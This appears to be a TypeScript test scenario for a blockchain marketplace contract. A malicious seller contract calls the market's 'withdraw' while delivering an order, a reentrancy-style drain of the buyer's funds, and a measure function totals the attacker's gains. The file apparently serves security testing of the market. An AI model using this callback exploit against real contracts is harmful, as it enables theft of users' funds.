import type { Attack } from '../scene.js'

const LOGGER = `class Logger {
  init() {}
  log(text) {}
}
module.exports = Logger;`

/** A seller's contract, which withdraws the buyer's balance while it delivers. */
const SELLER = `class Seller {
  init() {}
  aim(subject) { storage.put('subject', subject); }
  deliver(id, buyer) { blockchain.call(storage.get('subject'), 'withdraw', []); }
}
module.exports = Seller;`

const SHOP = `class Shop {
  init() {}
  deliver(id, buyer) {}
}
module.exports = Shop;`

export const attack: Attack = {
  harm: 'more',
  async prepare(scene) {
    await scene.deploy('alice', 'logger', LOGGER, { log: { args: ['string'] } })
    await scene.deploy('carol', 'shop', SHOP, { deliver: { args: ['string', 'string'] } })
    await scene.deploy('julia', 'seller', SELLER, {
      aim: { args: ['string'] },
      deliver: { args: ['string', 'string'] },
    })
    await scene.use('alice', 'setLogger', '$logger')
    await scene.use('bobby', 'log', 'open')
    await scene.use('carol', 'list', 'tea', '$shop', '3')
    await scene.use('bobby', 'deposit', '200')
    await scene.use('bobby', 'order', 'tea')
    await scene.use('julia', 'deposit', '100')
  },
  // What the attacker has, and what the market owes it.
  measure: async (scene) => (await scene.balance('iost', 'julia')) + Number(await scene.read('balance', 'julia')),
  async run(scene) {
    await scene.attack('$seller/aim', '$subject')
    await scene.attack('list', 'air', '$seller', '1')
    await scene.attack('order', 'air')
  },
}
